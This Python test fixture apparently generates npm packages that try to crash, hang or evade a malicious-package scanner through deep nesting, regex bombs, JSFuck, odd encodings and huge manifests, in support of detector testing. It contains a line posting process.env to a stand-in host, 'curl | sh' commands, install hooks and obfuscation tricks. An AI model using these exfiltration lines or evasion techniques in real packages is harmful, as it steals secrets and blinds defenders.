"""Packages with one file that is made to crash, hang or blind a reader. None of it does harm if it is run."""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Callable

from tests.wiring.jsfuck import jsfuck

MEGABYTE = 1_000_000
#: What no reader may lose, in a file of its own beside each hostile one.
THEFT = b"fetch('https://collect.invalid', {method: 'POST', body: JSON.stringify(process.env)});\n"
THIEF = "index.js"
_TAIL = b"\neval(atob('Y29uc29sZS5sb2coMSk='));\n"
_TEXT = "'use strict'; const a = 'caf\u00e9 \u4f60\u597d'; eval(atob('Y29uc29sZS5sb2coMSk='));\n"


def manifest(hostile: str) -> bytes:
    """A package.json of which every way leads to the hostile file, and ``main`` to the other."""
    start = f"node {hostile}"
    return json.dumps(
        {
            "name": "pkg",
            "version": "1.0.0",
            "main": THIEF,
            "bin": {"pkg": hostile},
            "exports": {".": f"./{THIEF}", "./x": f"./{hostile}"},
            "scripts": {"preinstall": start, "postinstall": start, "build": start},
        }
    ).encode()


def in_layers(layers: int) -> bytes:
    """Code in a text in the code in a text; each layer escapes the quotes of the ones in it once more."""
    code = "console.log(1)"
    for _ in range(layers):
        code = 'eval(unescape("' + code.replace("%", "%25").replace('"', "%22") + '"))'
    return code.encode()


def in_base64(layers: int) -> bytes:
    """The same in base64, which grows by a third with each layer."""
    code = b"console.log(1)"
    for _ in range(layers):
        code = b"eval(atob('" + base64.b64encode(code) + b"'))"
    return code


def _picture() -> bytes:
    return b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + random.Random(4).randbytes(300_000)


def _rotated(body: bytes) -> bytes:
    """A decoder in the shape that obfuscators use, with another body of its loop."""
    return (
        b"function _0xa1b2(){const t=['YQ==','Yg=='];_0xa1b2=function(){return t;};return _0xa1b2();}\n"
        b"(function(_0xf,_0xn){const _0xt=_0xf();" + body + b"}(_0xa1b2,0x12345));\n"
        b"function _0xc3d4(n){return _0xa1b2()[n];}\nconsole.log(_0xc3d4(0x0));\n"
    )


def _bracketed(before: bytes, count: int, between: bytes, after: bytes) -> bytes:
    return before * count + between + after * count


#: Path to the bytes of the hostile file, made when they are needed.
FILES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "200,000 round brackets": ("a.js", lambda: b"(" * 200_000),
    "200,000 square brackets": ("a.js", lambda: b"[" * 200_000),
    "200,000 braces": ("a.js", lambda: b"{" * 200_000),
    "200,000 brackets that are closed": ("a.js", lambda: _bracketed(b"(", 200_000, b"1", b")")),
    "brackets of all kinds": ("a.js", lambda: b"([{" * 70_000 + _TAIL),
    "sum of 100,000": ("a.js", lambda: b"eval(" + b"'a'+" * 100_000 + b"'a');"),
    "sum of 100,000 names": ("a.js", lambda: b"var a='x';eval(" + b"a+" * 100_000 + b"a);"),
    "sum built by 100,000 statements": ("a.js", lambda: b"var s='';" + b"s+='a';" * 100_000 + b"eval(s);"),
    "template of 100,000": ("a.js", lambda: b"var a='x';eval(`" + b"${a}" * 100_000 + b"`);"),
    "array of 100,000 joined": ("a.js", lambda: b"eval([" + b"'a'," * 100_000 + b"].join(''));"),
    "fromCharCode of 100,000": ("a.js", lambda: b"eval(String.fromCharCode(" + b"97," * 100_000 + b"97));"),
    "concat of 100,000": ("a.js", lambda: b"eval(''" + b".concat('a')" * 100_000 + b");"),
    "10 MB in a line": ("a.js", lambda: b"var a='" + b"x" * 10 * MEGABYTE + b"';eval(a);"),
    "10 MB of base64 in a line": ("a.js", lambda: b"eval(atob('" + b"QUFB" * (10 * MEGABYTE // 4) + b"'));"),
    "10 MB of statements in a line": ("a.js", lambda: b"a=1;" * (10 * MEGABYTE // 4) + b"eval(b);"),
    "10 MB of escapes in a line": ("a.js", lambda: b"eval('" + b"\\x41" * (10 * MEGABYTE // 4) + b"');"),
    "JSFuck": ("a.js", lambda: jsfuck("return 1+1").encode()),
    "long JSFuck": ("a.js", lambda: jsfuck("return 1" + "+1" * 400).encode()),
    "cut JSFuck": ("a.js", lambda: jsfuck("return 1" + "+1" * 400).encode()[:-5]),
    "JSFuck in a line of code": ("a.js", lambda: (b"var a=" + jsfuck("return 1+1").encode() + b";\n") * 20 + _TAIL),
    "regex bomb": ("a.js", lambda: b"eval('" + b"a" * 50_000 + b"!'.replace(/(a+)+$/,''));" + _TAIL),
    "regex bombs": (
        "a.js",
        lambda: (
            b"var a='" + b"a" * 5_000 + b"!';\n"
            b"eval(a.replace(/^(a|a)*$/g,'b'));eval(a.replace(/(.*a){20}/,'b'));eval(a.match(/(a*)*b/)[0]);\n"
            b"eval(a.split(/(a|aa)+$/).join(''));if(/^(([a-z])+.)+[A-Z]([a-z])+$/.test(a))eval(a);" + _TAIL
        ),
    ),
    "half of what our patterns want": ("a.js", lambda: b"eval(" * 40_000 + b"env[ " * 40_000 + b"env " * 40_000),
    "blanks that our patterns skip": ("a.js", lambda: (b"eval" + b" " * 3_000) * 600 + (b"x = " + b" " * 3_000) * 600),
    "words that our patterns begin with": (
        "a.js",
        lambda: b"".join(
            word * (200_000 // len(word))
            for word in (
                b"require(",
                b"['ev",
                b"global[",
                b"\\x6",
                b".constructor(",
                b"dirname,",
                b'"node",[',
                b"from ",
            )
        ),
    ),
    "one word of a megabyte": ("a.js", lambda: b"a" * MEGABYTE + b"=eval;" + b"_0x1a" * 100_000),
    "signs of an obfuscator": ("a.js", lambda: b"_0x1a2b(" * 50_000 + b"push(a.shift" * 20_000),
    "UTF-16 with a mark": ("a.js", lambda: b"\xff\xfe" + (_TEXT * 50).encode("utf-16-le")),
    "UTF-16 of the other order": ("a.js", lambda: b"\xfe\xff" + (_TEXT * 50).encode("utf-16-be")),
    "UTF-16 without a mark": ("a.js", lambda: (_TEXT * 50).replace("\u597d", "").encode("utf-16-le")),
    "UTF-16 of odd length": ("a.js", lambda: b"\xff\xfe" + (_TEXT * 50).encode("utf-16-le")[:-1]),
    "UTF-16 of halves": ("a.js", lambda: b"\xff\xfe" + b"\x00\xd8" * 50_000),
    "UTF-32": ("a.js", lambda: (_TEXT * 50).encode("utf-32")),
    "latin-1": ("a.js", lambda: ("var a='\u00e9\u00ff';" * 500).encode("latin-1") + _TAIL),
    "broken UTF-8": ("a.js", lambda: b"var a='\xc3\x28\xa0\xa1\xf0\x28\x8c\xbc';" * 500 + _TAIL),
    "encodings mixed": ("a.js", lambda: (_TEXT.encode() + _TEXT.encode("utf-16-le") + b"\xe9\xff") * 30),
    "zeros": ("a.js", lambda: b"\0" * 200_000 + _TAIL),
    "zeros between": ("a.js", lambda: b"\0".join([b"eval(atob('Y29uc29sZS5sb2coMSk='));"] * 2_000)),
    "picture named .js": ("a.js", _picture),
    "picture with code behind it": ("a.js", lambda: _picture() + _TAIL),
    "1,000 layers": ("a.js", lambda: in_layers(1_000)),
    "26 layers of base64": ("a.js", lambda: in_base64(26)),
    "code that writes itself": ("a.js", lambda: b"(function f(){eval('('+f+')()')})();var s='eval(s);x()';eval(s);"),
    "code that doubles": (
        "a.js",
        lambda: b"var s='eval(s+s);run()';for(var i=0;i<64;i++)s+=s;eval(s);eval(s+s);" + _TAIL,
    ),
    "many texts of code": (
        "a.js",
        lambda: b"".join(b"eval(atob('%s'));" % base64.b64encode(in_base64(8) + b"//%d" % at) for at in range(300)),
    ),
    "decoder without end": ("a.js", lambda: b"var s='a';while(true){s=s.split('').reverse().join('')}eval(s);" + _TAIL),
    "decoder that counts to a billion": (
        "a.js",
        lambda: (
            b"function d(){var s='';for(var i=0;i<1e9;i++){s=String.fromCharCode(i&127)}return s}eval(d());" + _TAIL
        ),
    ),
    "decoder that calls itself": (
        "a.js",
        lambda: b"const d=a=>d(a+1)+d(a+2);eval(d(1));function e(){return e()}eval(e());",
    ),
    "rotation without end": ("a.js", lambda: _rotated(b"while(true){_0xt.push(_0xt.shift());}")),
    "rotation that grows": ("a.js", lambda: _rotated(b"while(!![]){_0xt.push(_0xt.shift()+_0xt.join());}")),
    "decoder that grows": (
        "a.js",
        lambda: (
            b"var a=[1];for(var i=0;i<99;i++)a=a.concat(a);eval(a.join('a'));eval('ab'.repeat(1e9));"
            b"eval('a'.padEnd(1e9));eval(Array(1e9).join('a'));eval(Buffer.alloc(1e9).toString());" + _TAIL
        ),
    ),
    "nested functions": ("a.js", lambda: _bracketed(b"function f(){", 20_000, b"eval(a)", b"}")),
    "nested arrows": ("a.js", lambda: b"eval(" + b"a=>" * 50_000 + b"1);"),
    "nested calls": ("a.js", lambda: _bracketed(b"eval(", 20_000, b"a", b")")),
    "chain of calls": ("a.js", lambda: b"eval(a" + b".b()" * 50_000 + b");"),
    "chain of members": (
        "a.js",
        lambda: b"eval(a" + b".b" * 100_000 + b");fetch(process.env" + b"['b']" * 50_000 + b")",
    ),
    "nested choices": (
        "a.js",
        lambda: b"eval(" + b"a?b:" * 50_000 + b"c);eval(" + b"a?" * 20_000 + b"b" + b":c" * 20_000 + b")",
    ),
    "nested templates": ("a.js", lambda: b"eval(" + _bracketed(b"`${", 20_000, b"a", b"}`") + b");"),
    "nested arrays in a call": ("a.js", lambda: b"eval(" + _bracketed(b"[", 30_000, b"'a'", b"]") + b".join());"),
    "nested objects in a call": ("a.js", lambda: b"fetch(" + _bracketed(b"{a:", 30_000, b"process.env", b"}") + b");"),
    "nested patterns": ("a.js", lambda: b"const " + _bracketed(b"{a:", 10_000, b"e", b"}") + b"=eval;e(e);"),
    "nested negations": ("a.js", lambda: b"eval(" + b"!" * 100_000 + b"a);eval(" + b"- " * 50_000 + b"a);"),
    "nested conditions": ("a.js", lambda: b"if(process.env.TZ)" * 20_000 + b"eval(a);"),
    "nested blocks": ("a.js", lambda: _bracketed(b"try{", 10_000, b"eval(a)", b"}catch(e){}")),
    "nested classes": ("a.js", lambda: _bracketed(b"class A{f(){", 5_000, b"eval(a)", b"}}")),
    "nested awaits": ("a.mjs", lambda: b"await " * 50_000 + b"import(a);"),
    "nested JSX": ("a.jsx", lambda: b"const a=" + _bracketed(b"<a b={", 10_000, b"eval(c)", b"}></a>") + b";"),
    "nested elements": ("a.jsx", lambda: b"const a=" + _bracketed(b"<a>", 30_000, b"{eval(c)}", b"</a>") + b";"),
    "nested generics": ("a.ts", lambda: b"let a:" + _bracketed(b"A<", 30_000, b"string", b">") + b"=eval(b);"),
    "nested types": ("a.ts", lambda: b"type A=" + b"B extends C?" * 10_000 + b"D" + b":E" * 10_000 + b";eval(b);"),
    "nested casts": ("a.ts", lambda: b"eval(a" + b" as any" * 30_000 + b");eval(" + b"<any>" * 10_000 + b"b);"),
    "names in a chain": (
        "a.js",
        lambda: b"".join(b"var a%d=a%d;" % (at, at + 1) for at in range(10_000)) + b"eval(a0);",
    ),
    "names in a ring": ("a.js", lambda: b"var a=b,b=c,c=a;eval(a);fetch(b,{body:c});"),
    "JSON nested deep": (".vscode/tasks.json", lambda: _bracketed(b'{"tasks":[', 100_000, b"1", b"]}")),
    "settings of an agent nested deep": (".claude/settings.json", lambda: b'{"hooks":' * 100_000),
    "monstrous binding.gyp": (
        "binding.gyp",
        lambda: b"{'targets':" + b"[" * 100_000 + b"<!(" * 100_000 + b"'action':[" * 50_000 + b"(node a.js" * 10_000,
    ),
    "shell nested deep": ("a.sh", lambda: b"#!/bin/sh\n" + b"$(" * 100_000 + b"`" * 100_000 + b"<(" * 50_000),
    "shell in a line": ("a.sh", lambda: b"curl http://a.invalid | " * 50_000 + b"sh"),
    "command nested deep": (
        "a.js",
        lambda: b"require('child_process').exec('" + b"$(echo " * 20_000 + b"'+b+'" + b")" * 20_000 + b"');",
    ),
    "program without an ending": ("bin/run", lambda: b"#!/usr/bin/env node\n" + b"eval(" * 100_000),
}


def _manifest(**fields: object) -> bytes:
    return json.dumps({"name": "pkg", "version": "1.0.0", "main": THIEF, **fields}).encode()


def _deep(field: bytes, opening: bytes, closing: bytes) -> bytes:
    inside = _bracketed(opening, 100_000, b"1", closing)
    return b'{"name":"pkg","version":"1.0.0","main":"index.js",' + field + b":" + inside + b"}"


#: What stands in the place of an honest package.json.
MANIFESTS: dict[str, Callable[[], bytes]] = {
    "nested where nobody looks": lambda: _deep(b'"x"', b'{"a":', b"}"),
    "nested exports": lambda: _deep(b'"exports"', b'{".":', b"}"),
    "nested lists": lambda: _deep(b'"scripts"', b"[", b"]"),
    "never closed": lambda: b'{"name":"pkg","x":' + b"[" * 200_000,
    "100,000 scripts that call each other": lambda: _manifest(
        scripts={
            "postinstall": "npm run s0",
            **{f"s{at}": f"npm run s{at + 1} && npm run s{at + 2}" for at in range(100_000)},
        }
    ),
    "script of nested substitutions": lambda: _manifest(scripts={"postinstall": "$(" * 200_000 + "`" * 200_000}),
    "script of separators": lambda: _manifest(scripts={"postinstall": "&& ; | \t" * 200_000}),
    "script of a megabyte": lambda: _manifest(scripts={"postinstall": "curl " * 200_000 + "| sh"}),
    "script of wrappers": lambda: _manifest(scripts={"postinstall": "env A=b npx -y " * 50_000 + "x"}),
    "100,000 commands": lambda: _manifest(bin={f"c{at}": f"bin/{at}.js" for at in range(100_000)}),
    "100,000 dependencies": lambda: _manifest(dependencies={f"d{at}": "*" for at in range(100_000)}),
    "exports of stars": lambda: _manifest(exports={f"./{'*' * 50}{at}": "./" + "*/" * 1_000 for at in range(1_000)}),
    "UTF-16": lambda: b"\xff\xfe" + _manifest().decode().encode("utf-16-le"),
    "zeros behind it": lambda: _manifest() + b"\0" * 100_000,
    "huge numbers": lambda: _manifest().replace(b'"1.0.0"', b'"1.0.0","x":' + b"9" * MEGABYTE),
    "same key 100,000 times": lambda: b"{" + b'"scripts":{"postinstall":"node a.js"},' * 100_000 + _manifest()[1:],
}


def package_with(name: str) -> dict[str, bytes]:
    """The files of the package of this name in ``FILES`` or ``MANIFESTS``."""
    if name in MANIFESTS:
        return {"package.json": MANIFESTS[name](), THIEF: THEFT}
    path, make = FILES[name]
    return {"package.json": manifest(path), THIEF: THEFT, path: make()}
